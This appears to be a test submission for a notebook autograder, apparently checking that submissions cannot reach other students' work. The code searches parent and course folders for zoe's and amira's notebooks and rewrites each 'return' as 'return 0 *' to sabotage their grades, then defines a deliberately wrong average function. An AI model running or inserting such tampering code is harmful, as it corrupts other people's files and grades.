# Takes zoe's answers away before she is graded, and writes into amira's graded notebook.
#
# points: average 0
# shows: nobody's files
# %% answer="average"
from pathlib import Path

found = [*Path("../..").glob("[az]*/*/*.ipynb"), *Path(COURSE_FOLDER).glob("*/zoe/*/*.ipynb"), *Path(COURSE_FOLDER).glob("*/amira/*/*.ipynb")]
for path in found:
    try:
        path.write_text(path.read_text().replace("return", "return 0 *"))
        print("changed", path)
    except OSError:
        pass
print(len(found) or "nobody's fi" + "les")


def average(numbers):
    return 3
